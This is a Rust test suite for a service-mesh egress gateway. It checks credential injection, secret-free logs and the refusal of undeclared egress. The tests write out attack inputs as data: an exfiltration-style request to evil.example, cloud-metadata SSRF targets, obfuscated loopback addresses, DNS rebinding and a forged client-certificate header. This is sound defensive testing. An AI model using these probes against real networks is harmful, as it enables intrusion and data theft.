//! The way out: application → its proxy → egress gateway → a server outside, found through a name server of ours.

use std::collections::HashMap;
use std::convert::Infallible;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use http::{HeaderMap, Request, Response};
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper_util::rt::{TokioExecutor, TokioIo};
use hyper_util::server::conn::auto;
use parking_lot::Mutex;
use ringwall_http_io::{BoxBody, body};
use ringwall_identity::TrustDomain;
use ringwall_identity::authority::Authority;
use ringwall_secret::private_file;
use time::OffsetDateTime;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream, UdpSocket};
use tokio_rustls::rustls::pki_types::pem::PemObject as _;
use tokio_rustls::rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName};
use tokio_rustls::rustls::{ClientConfig, ServerConfig};
use tokio_rustls::{TlsAcceptor, TlsConnector};

use crate::world::{OUTBOUND, World, until};

const SECRET: &str = "canary-of-the-partner-51c7";
/// Where everybody outside listens; each has an address of its own.
const PORT: u16 = 8443;
const PARTNER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
/// Nobody outside: what a rebinding name would open.
const INSIDE: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 1);
const NAMES: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 53);
const EGRESS: u16 = 7109;

/// What is outside, as seen from there.
struct Outside {
    world: World,
    seen: Arc<Mutex<Vec<HeaderMap>>>,
    inside: Arc<AtomicUsize>,
    roots: std::path::PathBuf,
}

impl Outside {
    fn start() -> Self {
        let mut world = World::start();
        let domain = TrustDomain::parse("outside.example").unwrap();
        let now = OffsetDateTime::now_utc();
        let authority = Authority::generate(&domain, now).unwrap();
        let roots = world.path("outside.pem");
        std::fs::write(&roots, authority.cert_pem()).unwrap();
        private_file::write(&world.path("secrets/partner-key"), SECRET.as_bytes()).unwrap();
        let names = [
            "api.partner.example",
            "bank.example",
            "rebind.example",
            "theirs.example",
        ];
        let hour = Duration::from_secs(3600);
        let issued = authority.issue_server(&names.map(str::to_owned), &[], hour, now);
        let issued = issued.unwrap();
        let chain = CertificateDer::pem_slice_iter(issued.chain_pem.as_bytes());
        let config = ServerConfig::builder()
            .with_no_client_auth()
            .with_single_cert(
                chain.collect::<Result<_, _>>().unwrap(),
                PrivateKeyDer::from_pem_slice(issued.key_pem.as_bytes()).unwrap(),
            )
            .unwrap();
        let seen = Arc::<Mutex<Vec<HeaderMap>>>::default();
        let inside = Arc::<AtomicUsize>::default();
        let script = HashMap::from([
            ("api.partner.example", vec![PARTNER]),
            ("bank.example", vec![PARTNER]),
            ("rebind.example", vec![PARTNER, INSIDE]),
            ("metadata.example", vec![Ipv4Addr::new(169, 254, 169, 254)]),
            ("theirs.example", vec![PARTNER]),
        ]);
        world.node.run(name_server(script));
        world.node.run(server(config, Arc::clone(&seen)));
        world.node.run(trap(Arc::clone(&inside)));
        let egress = format!(
            r#"egress:
  roots: {}
  dns: {{ servers: ["{NAMES}:53"], timeout: 2s }}
  networks: [{PARTNER}/32]
  rules:
    - {{ name: partner, callers: [orders], host: api.partner.example, port: {PORT}, paths: [/v1], private: true, credential: {{ header: authorization, secret: partner-key, prefix: "Bearer " }} }}
    - {{ name: bank, callers: [orders], host: bank.example, port: {PORT}, tls: passthrough, private: true }}
    - {{ name: rebind, callers: [orders], host: rebind.example, port: {PORT}, private: true }}
    - {{ name: metadata, callers: [orders], host: metadata.example, port: {PORT}, private: true }}
    - {{ name: theirs, callers: [inventory], host: theirs.example, port: {PORT}, private: true }}
"#,
            roots.display()
        );
        world.start_proxy("egress", EGRESS, &egress);
        let outside = Self {
            world,
            seen,
            inside,
            roots,
        };
        until("the way out is open", || {
            (outside.get("api.partner.example", "/v1").0 == 200).then_some(())
        });
        outside.seen.lock().clear();
        outside
    }

    fn get(&self, host: &str, path: &str) -> (u16, String) {
        self.world.get_of(host, path)
    }

    /// Asks for a tunnel, as a client that knows a proxy does, and asks for `name` in TLS; the answer to a request.
    fn through_a_tunnel(&self, authority: &str, name: &'static str) -> Result<String, String> {
        let config = ringwall_tls::external_client_config(&self.roots).unwrap();
        let mut config = ClientConfig::clone(&config);
        config.alpn_protocols = vec![b"http/1.1".to_vec()];
        let authority = authority.to_owned();
        self.world.node.run(async move {
            let mut tcp = TcpStream::connect(OUTBOUND).await.unwrap();
            let connect = format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n");
            tcp.write_all(connect.as_bytes()).await.unwrap();
            let mut head = Vec::new();
            while !head.ends_with(b"\r\n\r\n") {
                match tcp.read_u8().await {
                    Ok(byte) => head.push(byte),
                    Err(error) => return Err(format!("{error}: {head:?}")),
                }
            }
            let head = String::from_utf8_lossy(&head).into_owned();
            if !head.starts_with("HTTP/1.1 200") {
                return Err(head.lines().next().unwrap_or_default().to_owned());
            }
            let connector = TlsConnector::from(Arc::new(config));
            let name = ServerName::try_from(name).unwrap();
            let connecting = connector.connect(name, tcp);
            let mut tls = connecting.await.map_err(|error| error.to_string())?;
            let request = "GET /tunnel HTTP/1.1\r\nhost: bank.example\r\nauthorization: own\r\nconnection: close\r\n\r\n";
            tls.write_all(request.as_bytes()).await.unwrap();
            let mut text = String::new();
            tls.read_to_string(&mut text).await.unwrap();
            Ok(text)
        })
    }
}

#[test]
fn r27_what_is_declared_goes_out_with_the_gateway_s_credential() {
    let outside = Outside::start();
    let (status, text) = outside.get("api.partner.example", "/v1/things?q=1");
    assert_eq!((status, text.as_str()), (200, "outside"));
    let (_, text) = outside.get(&format!("API.partner.example.:{PORT}"), "/v1");
    assert_eq!(text, "outside", "one host in two spellings");
    let seen = outside.seen.lock().clone();
    assert_eq!(seen.len(), 2);
    for headers in seen {
        assert_eq!(
            headers["authorization"],
            format!("Bearer {SECRET}").as_str()
        );
        let inside = [
            "x-forwarded-client-cert",
            "traceparent",
            "x-ringwall-loopback",
        ];
        assert!(
            !inside.iter().any(|name| headers.contains_key(*name)),
            "{headers:?}"
        );
    }
    // TLS of its own, which nobody reads on the way.
    let authority = format!("bank.example:{PORT}");
    let text = outside
        .through_a_tunnel(&authority, "bank.example")
        .unwrap();
    assert!(text.ends_with("outside"), "{text}");
    let headers = outside.seen.lock().pop().unwrap();
    assert_eq!(headers["authorization"], "own", "no credential in a tunnel");
    for name in [
        "egress-proxy",
        "orders-proxy",
        "inventory-proxy",
        "plane",
        "agent",
    ] {
        let access = std::fs::read_to_string(outside.world.path(&format!("{name}.access.log")));
        let log = outside.world.log(name) + &access.unwrap_or_default();
        assert!(
            !log.contains(SECRET),
            "R69: the log of {name} has the credential"
        );
    }
}

#[test]
fn r27_attack_what_is_not_declared_stays_inside_and_is_logged() {
    let outside = Outside::start();
    for (host, path) in [
        ("evil.example", "/?data=canary"),
        ("api.partner.example", "/admin"),
        ("api.partner.example:443", "/v1"),
        ("api.partner.example.evil.example", "/v1"),
        ("bank.example", "/"),
        ("169.254.169.254", "/latest/meta-data/"),
        ("[fd00:ec2::254]", "/latest/meta-data/"),
        ("127.0.0.1:7605", "/metrics"),
        ("metadata.example", "/latest/meta-data/"),
    ] {
        let (status, text) = outside.get(host, path);
        assert_eq!(status, 403, "{host}{path}: {text}");
    }
    for host in ["2130706433.", "0x7f.1", "127.1", "0177.0.0.1"] {
        let (status, text) = outside.get(host, "/");
        assert!((400..500).contains(&status), "{host}: {status} {text}");
    }
    let log = outside.world.log("egress-proxy");
    let lines = log
        .lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok());
    let reasons: Vec<String> = lines
        .filter(|line| line["message"] == "egress refused")
        .map(|line| line["reason"].to_string())
        .collect();
    let needed = r#"needed: { callers: [orders], host: \"evil.example\", port: 443, methods: [GET], paths: [\"/\"] }"#;
    assert!(reasons[0].contains(needed), "{reasons:?}");
    assert!(!log.contains("canary"), "no query in the log: {log}");
    let evil = format!("evil.example:{PORT}");
    let refused = outside.through_a_tunnel(&evil, "bank.example");
    assert!(
        refused
            .as_ref()
            .is_err_and(|answer| answer.starts_with("HTTP/1.1 ")),
        "{refused:?}"
    );
    let bank = format!("bank.example:{PORT}");
    let other = outside.through_a_tunnel(&bank, "api.partner.example");
    assert!(other.is_err(), "another name in the tunnel: {other:?}");
    assert!(outside.seen.lock().is_empty());
    assert_eq!(outside.inside.load(Ordering::SeqCst), 0);
}

#[test]
fn attack_a_name_that_moves_inside_is_not_followed() {
    let outside = Outside::start();
    let (status, text) = outside.get("rebind.example", "/last");
    assert_eq!((status, text.as_str()), (200, "outside"));
    let (status, text) = outside.get("rebind.example", "/last");
    assert_eq!(status, 403, "{text}");
    assert!(
        !text.contains("127.0.0.1"),
        "the network is not told: {text}"
    );
    assert_eq!(outside.inside.load(Ordering::SeqCst), 0, "nobody knocked");
}

#[test]
fn attack_nobody_takes_another_workload_s_way_out() {
    let outside = Outside::start();
    // `inventory` may go there, says the gateway; but its service has no edge to the gateway. `orders` has one.
    for application in ["127.0.0.1:7506", OUTBOUND] {
        let answer = outside.world.node.run(async move {
            let mut tcp = TcpStream::connect(application).await.unwrap();
            let request = "GET /v1 HTTP/1.1\r\nHost: theirs.example\r\nX-Forwarded-Client-Cert: URI=spiffe://ringwall.local/inventory\r\nConnection: close\r\n\r\n";
            tcp.write_all(request.as_bytes()).await.unwrap();
            let mut text = String::new();
            tcp.read_to_string(&mut text).await.unwrap();
            text
        });
        let status = answer.split(' ').nth(1).unwrap_or_default();
        assert!(status.starts_with('4'), "{application}: {answer}");
    }
    assert!(outside.seen.lock().is_empty());
}

/// The server outside: it keeps the heads of requests.
async fn server(config: ServerConfig, seen: Arc<Mutex<Vec<HeaderMap>>>) {
    let listener = TcpListener::bind((PARTNER, PORT)).await.unwrap();
    let acceptor = TlsAcceptor::from(Arc::new(config));
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let (acceptor, seen) = (acceptor.clone(), Arc::clone(&seen));
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let service = service_fn(move |request| answer(Arc::clone(&seen), request));
                let _ended = auto::Builder::new(TokioExecutor::new())
                    .serve_connection(TokioIo::new(tls), service)
                    .await;
            });
        }
    });
}

async fn answer(
    seen: Arc<Mutex<Vec<HeaderMap>>>,
    request: Request<Incoming>,
) -> Result<Response<BoxBody>, Infallible> {
    let mut response = Response::new(body::full("outside"));
    if request.uri().path() == "/last" {
        let close = http::HeaderValue::from_static("close");
        response.headers_mut().insert("connection", close);
    }
    seen.lock().push(request.into_parts().0.headers);
    Ok(response)
}

/// The same port inside; it counts who comes.
async fn trap(count: Arc<AtomicUsize>) {
    let listener = TcpListener::bind((INSIDE, PORT)).await.unwrap();
    tokio::spawn(async move {
        while listener.accept().await.is_ok() {
            count.fetch_add(1, Ordering::SeqCst);
        }
    });
}

/// Answers questions for addresses (RFC 1035 §4.1): the n-th with the n-th address, then the last one for ever.
async fn name_server(script: HashMap<&'static str, Vec<Ipv4Addr>>) {
    let socket = UdpSocket::bind((NAMES, 53)).await.unwrap();
    tokio::spawn(async move {
        let mut asked = HashMap::<String, usize>::new();
        let mut buffer = [0; 1500];
        while let Ok((length, peer)) = socket.recv_from(&mut buffer).await {
            let (name, end) = question(&buffer[..length]);
            let is_v4 = buffer[end - 4..end] == [0, 1, 0, 1];
            let addresses = script.get(name.as_str()).filter(|_| is_v4);
            let mut answer = buffer[..end].to_vec();
            // A response, recursion available, no error; one question.
            answer[2..4].copy_from_slice(&[0x81, 0x80]);
            answer[4..12].copy_from_slice(&[0, 1, 0, 0, 0, 0, 0, 0]);
            if let Some(addresses) = addresses {
                let count = asked.entry(name).or_insert(0);
                let address = addresses[(*count).min(addresses.len() - 1)];
                *count += 1;
                answer[7] = 1;
                // The name of the question, type A, class IN, no time to live.
                answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4]);
                answer.extend(address.octets());
            }
            let _gone = socket.send_to(&answer, peer).await;
        }
    });
}

/// The name that is asked for, and where the question ends.
fn question(message: &[u8]) -> (String, usize) {
    let (mut at, mut labels) = (12, Vec::new());
    while message[at] != 0 {
        let end = at + 1 + usize::from(message[at]);
        labels.push(String::from_utf8_lossy(&message[at + 1..end]).to_lowercase());
        at = end;
    }
    (labels.join("."), at + 5)
}
